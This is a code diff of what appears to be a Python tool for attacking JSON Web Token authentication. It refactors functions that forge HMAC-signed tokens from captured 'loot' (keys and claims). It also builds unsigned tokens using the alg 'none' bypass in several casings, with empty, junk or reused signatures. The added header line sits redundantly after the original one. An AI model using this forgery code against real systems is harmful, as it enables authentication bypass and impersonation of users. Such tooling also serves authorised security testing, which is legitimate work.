@@ -51,8 +51,7 @@ def encoded(data: bytes) -> bytes:
 def forged(header: Any, payload: Any, key: str, digest: str = "sha256") -> bytes:
     """Return a token of any JSON, or of bytes as they are, signed by HMAC."""
     parts = [
-        encoded(part if isinstance(part, bytes) else json.dumps(part).encode())
-        for part in (header, payload)
+        encoded(part if isinstance(part, bytes) else _json(part)) for part in (header, payload)
     ]
     signature = hmac.new(key.encode(), b".".join(parts), digest).digest()
     return b".".join([*parts, encoded(signature)])
@@ -78,6 +77,7 @@ def attacks(loot: Loot) -> Iterator[Attack]:
 def _tokens(loot: Loot) -> dict[str, list[bytes]]:
     key, claims = loot.key, loot.claims
     header = {"alg": "HS256", "typ": "at+jwt", "kid": loot.key_id}
+    header = {"alg": "HS256", "kid": loot.key_id, "typ": "at+jwt"}
     now = int(time.time())
 
     def said(**change: Any) -> bytes:
@@ -91,7 +91,7 @@ def _tokens(loot: Loot) -> dict[str, list[bytes]]:
         return forged(changed, claims, by, digest)
 
     unsigned = [
-        b".".join([encoded(json.dumps({**header, "alg": alg}).encode()), encoded(_json(claims)), s])
+        b".".join([encoded(_json({**header, "alg": alg})), encoded(_json(claims)), s])
         for alg in ("none", "None", "NONE", "nOnE", "", None)
         for s in (b"", b"x", loot.token.encode().rpartition(b".")[2])
     ]
@@ -225,7 +225,7 @@ def _headers(loot: Loot) -> dict[str, list[Headers]]:
 
 
 def _json(value: object) -> bytes:
-    return json.dumps(value).encode()
+    return json.dumps(value, separators=(",", ":")).encode()
 
 
 def mark(attack: Attack) -> list[str]:
